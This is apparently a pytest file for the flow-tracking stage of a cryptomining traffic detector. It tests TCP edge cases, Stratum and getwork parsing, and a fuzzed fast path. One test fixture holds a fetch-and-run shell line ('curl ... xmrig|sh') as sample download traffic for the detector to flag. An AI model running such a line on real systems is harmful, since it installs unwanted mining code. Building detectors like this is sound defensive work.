"""The flow stage directly: lifecycle edge cases found by fuzzing the fast path against it."""

from __future__ import annotations

import datetime as dt
import random

import pytest

from detector import flows
from detector.capture.model import ACK, PSH, SYN, Packet
from detector.flows import FlowTable
from detector.scan import ScanOptions, build_findings

CLIENT, SERVER = ("10.0.0.5", 40000), ("192.0.2.9", 3333)


def pkt(ts: float, seq: int, payload: bytes, from_client: bool = True, flags: int = ACK | PSH) -> Packet:
    (src, sp), (dst, dp) = (CLIENT, SERVER) if from_client else (SERVER, CLIENT)
    return Packet(ts, src, dst, 6, sp, dp, payload, 40 + len(payload), flags, seq, 1)


def test_flow_settled_as_not_mining_while_flushing_at_its_end():
    table = FlowTable()
    table.add(pkt(0.0, 99, b"", flags=SYN))
    line = b'{"jsonrpc":"2.0","method":"echo","params":["x"],"id":1}\n'
    seq = 100
    for i in range(flows.UNCONFIRMED_MESSAGE_LIMIT - 2):
        table.add(pkt(1.0 + i, seq, line))
        seq += len(line)
    lost = len(line)  # one segment never captured: the rest waits behind the hole until the end
    for i in range(5):
        table.add(pkt(100.0 + i, seq + lost + i * len(line), line))
    assert table.finish() == []


def test_timestamps_running_backwards_keep_a_valid_window():
    table = FlowTable()
    table.add(pkt(50.0, 99, b"", flags=SYN))
    table.add(pkt(51.0, 100, b'{"id":1,"method":"mining.subscribe","params":["cgminer/4.9.0"]}\n'))
    table.add(pkt(52.0, 1, b'{"id":null,"method":"mining.set_difficulty","params":[1024]}\n', from_client=False))
    table.add(pkt(10.0, 100 + 64, b'{"id":2,"method":"mining.submit","params":["w","j","0","1","2"]}\n'))
    (session,) = table.finish()
    assert session.first_seen <= session.last_seen
    findings = build_findings([], [session], table, 2, ScanOptions())
    (host,) = findings["hosts"]
    assert host["energy_kwh_window"]["best"] is not None and host["energy_kwh_window"]["best"] >= 0


def test_download_of_a_script_is_recorded_and_ends_inspection():
    table = FlowTable()
    ignored = []
    table.on_ignore = lambda *key: ignored.append(key)
    table.add(pkt(1.0, 99, b"", flags=SYN))
    table.add(pkt(1.1, 100, b"GET /x.sh HTTP/1.1\r\nHost: 198.51.100.9\r\n\r\n"))
    table.add(pkt(1.2, 1, b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 40\r\n\r\n"
                  b"#!/bin/sh\ncurl -s http://x/xmrig|sh\n", from_client=False))
    (receiver, download), = table.downloads
    assert receiver == CLIENT[0]
    assert (download.kind, download.url, download.ts) == ("script", "http://198.51.100.9/x.sh", 1.2)
    assert ignored == [(CLIENT[0], CLIENT[1], SERVER[0], SERVER[1], 6)]


def test_json_rpc_of_other_services_is_ignored_after_four_requests():
    table = FlowTable()
    ignored = []
    table.on_ignore = lambda *key: ignored.append(key)
    seq = 100
    for i in range(flows.FOREIGN_METHOD_LIMIT):
        line = b'{"jsonrpc":"2.0","method":"eth_blockNumber","params":[],"id":%d}\n' % i
        assert not ignored
        table.add(pkt(float(i), seq, line))
        seq += len(line)
    assert len(ignored) == 1 and table.finish() == []


def test_repeated_x_stratum_headers_are_kept_once():
    table = FlowTable()
    table.add(pkt(0.0, 99, b"", flags=SYN))
    cseq, sseq = 100, 1
    for i in range(300):
        body = b'{"method":"getwork","params":[],"id":%d}' % i
        req = b"POST / HTTP/1.1\r\nHost: pool.example.org\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body)
        table.add(pkt(1.0 + i, cseq, req))
        cseq += len(req)
        reply = b'{"result":{"data":"00","target":"' + b"f" * 56 + b'00000000","midstate":"00","hash1":"00"},"id":%d}' % i
        resp = (b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nX-Stratum: stratum+tcp://pool.example.org:3333\r\n"
                b"Content-Length: %d\r\n\r\n%s" % (len(reply), reply))
        table.add(pkt(1.5 + i, sseq, resp, from_client=False))
        sseq += len(resp)
    (session,) = table.finish()
    assert session.redirects == ["stratum+tcp://pool.example.org:3333"]
    assert sum("X-Stratum" in e for e in session.evidence) == 1 and len(session.evidence) <= 24


# -- the line shortcut ------------------------------------------------------------------------------
_LINES = (b'{"id":1,"method":"mining.subscribe","params":["cgminer/4.9.0"]}',
          b'{"id":2,"method":"mining.authorize","params":["wallet.rig1","x"]}',
          b'{"id":null,"method":"mining.set_difficulty","params":[1024]}',
          b'{"id":null,"method":"mining.notify","params":["j1","00","01","02",[],"20000000","1a","5f",true]}',
          b'{"id":4,"method":"mining.submit","params":["wallet.rig1","j1","00000001","5f000001","0badf00d"]}',
          b'{"id":4,"result":true,"error":null}', b'{"id":1,"method":"login","params":{"login":"4A","pass":"x"}}',
          b'{"id":7,"method":"eth_submitWork","params":["0x1","0x2","0x3"],"worker":"r"}', b'{"id":7,"result":false}',
          b'{"id":9,"method":"echo","params":[]}', b"   ", b"not json at all", b'{"id":1,"result":{"job":{"blob":"ab"}}}')
_STARTS = (b"", b"", b"", b"POST / HTTP/1.1\r\nContent-Length: 2\r\n\r\n{}", b"\x16\x03\x01\x00\x05hello", b"GET /x HTTP/1.1\r\n\r\n")


def _line_traffic(rnd: random.Random) -> list[Packet]:
    """Line-protocol connections with what the shortcut must leave to the general path: lines cut
    over segments and several per segment, retransmissions, reordering, lost segments, blank and
    unterminated lines, FIN, RST and SYN mid-stream, idle gaps, and flows that start as HTTP or TLS."""
    out: list[Packet] = []
    clock = [1000.0]
    for conn in range(12):
        client, server = (f"10.0.0.{conn % 5 + 1}", 40000 + conn), (f"192.0.2.{conn % 3 + 1}", 3333)
        seqs = {True: rnd.randrange(1 << 32), False: rnd.randrange(1 << 32)}

        def seg(from_client: bool, seq: int, payload: bytes, flags: int = ACK | PSH,
                client: tuple = client, server: tuple = server) -> Packet:
            (src, sp), (dst, dp) = (client, server) if from_client else (server, client)
            return Packet(clock[0], src, dst, 6, sp, dp, payload, 40 + len(payload), flags, seq & 0xFFFFFFFF, 1)

        if rnd.random() < 0.8:
            out.append(seg(True, seqs[True] - 1, b"", SYN))
            out.append(seg(False, seqs[False] - 1, b"", SYN | ACK))
        stream = {True: rnd.choice(_STARTS), False: b""}
        if rnd.random() < 0.3:  # near the limit of messages that show no mining method
            for _ in range(flows.UNCONFIRMED_MESSAGE_LIMIT - rnd.randrange(1, 4)):
                stream[True] += rnd.choice((b"  ", b"\t", b'{"id":9,"method":"echo","params":[]}', b"{}")) + b"\n"
        for _ in range(rnd.randrange(5, 40)):
            side = rnd.random() < 0.5
            stream[side] += rnd.choice(_LINES) + (b"\n" if rnd.random() < 0.95 else b"")
        for side in (True, False):
            data, pos, segments = stream[side], 0, []
            while pos < len(data):
                cut = data.find(b"\n", pos) + 1 or len(data)
                r = rnd.random()
                if r < 0.15:
                    cut = rnd.randrange(pos + 1, len(data) + 1)  # anywhere: a line cut over segments
                elif r < 0.25:
                    cut = data.find(b"\n", cut) + 1 or len(data)  # two lines in one segment
                segments.append((seqs[side] + pos, data[pos:cut]))
                pos = cut
            for i, (seq, payload) in enumerate(segments):
                clock[0] += rnd.choice((0.01, 0.5, 2.0)) if rnd.random() < 0.99 else flows.IDLE_TIMEOUT + 1
                r = rnd.random()
                if r < 0.05:
                    continue  # lost
                if r < 0.1 and i + 1 < len(segments):
                    segments[i + 1], (seq, payload) = (seq, payload), segments[i + 1]  # reordered
                flags = ACK | PSH
                if rnd.random() < 0.02 or i == len(segments) - 1 and rnd.random() < 0.5:
                    flags |= rnd.choice((flows.FIN, flows.FIN, flows.RST, SYN))  # (a last line with FIN)
                out.append(seg(side, seq, payload, flags))
                if rnd.random() < 0.05:
                    out.append(seg(side, seq, payload))  # retransmitted
        if rnd.random() < 0.4:  # the same ports again: a new connection once both sides sent FIN
            out.append(seg(True, seqs[True] + (1 << 20), b"", SYN))
            out.append(seg(True, seqs[True] + (1 << 20) + 1, _LINES[0] + b"\n"))
    if rnd.random() < 0.1:  # now and then: all out of order
        rnd.shuffle(out)
    return out


def _table_outcome(packets: list[Packet], shortcut: bool, monkeypatch: pytest.MonkeyPatch) -> tuple:
    monkeypatch.setattr(FlowTable, "line_shortcut", shortcut)
    table = FlowTable(keep_summaries=True)
    ignored: list[tuple] = []
    table.on_ignore = lambda *key: ignored.append(key)
    for p in packets:
        table.add(p)
    sessions = table.finish()
    findings = build_findings([], sessions, table, 0, ScanOptions(clock=lambda: dt.datetime(2024, 1, 1, tzinfo=dt.UTC)))
    return findings, table.warnings, ignored, table.flows_seen, list(table.summaries)


@pytest.mark.parametrize("seed", range(40))
def test_the_line_shortcut_changes_nothing(seed: int, monkeypatch: pytest.MonkeyPatch) -> None:
    """FlowTable.add's shortcut for one whole line in order gives what the general path gives, on
    line traffic made to leave it (split, reordered, lost, retransmitted, FIN/RST/SYN, idle)."""
    packets = _line_traffic(random.Random(seed))
    fast = _table_outcome(packets, True, monkeypatch)
    general = _table_outcome(packets, False, monkeypatch)
    assert fast == general


def test_the_line_shortcut_is_taken() -> None:
    """The shortcut is exercised: a clean Stratum exchange takes it for its steady-state lines."""
    packets = [pkt(0.0, 99, b"", flags=SYN), pkt(0.1, 100, _LINES[0] + b"\n")]
    calls = []

    class Counting(FlowTable):
        def _tcp(self, *args: object) -> None:
            calls.append(args)
            super()._tcp(*args)  # type: ignore[arg-type]

    table = Counting()
    seq = 100 + len(_LINES[0]) + 1
    for i, line in enumerate(_LINES[1:6]):
        packets.append(pkt(1.0 + i, seq, line + b"\n"))
        seq += len(line) + 1
    for p in packets:
        table.add(p)
    assert len(calls) == 2  # the SYN and the first line; the other five took the shortcut
    (session,) = table.finish()
    assert session.dialect == "stratum"


def test_a_filled_hole_that_ends_the_inspection_midway_is_not_an_error():
    """A segment filling a hole delivers every line held behind it; when one of them ends the
    inspection (too many messages without a mining method), the rest are not framed. This raised
    an AssertionError (the framers are let go) and ended the scan."""
    table = FlowTable()
    ignored = []
    table.on_ignore = lambda *key: ignored.append(key)
    table.add(pkt(0.0, 99, b"", flags=SYN))
    line = b'{"id":9,"method":"echo","params":[]}\n'
    count = flows.UNCONFIRMED_MESSAGE_LIMIT + 4
    for i in range(1, count):  # the first segment is late: the others wait behind the hole
        table.add(pkt(1.0 + i, 100 + i * len(line), line))
    table.add(pkt(30.0, 100, line))
    assert ignored == [(CLIENT[0], CLIENT[1], SERVER[0], SERVER[1], 6)]
    assert table.finish() == []
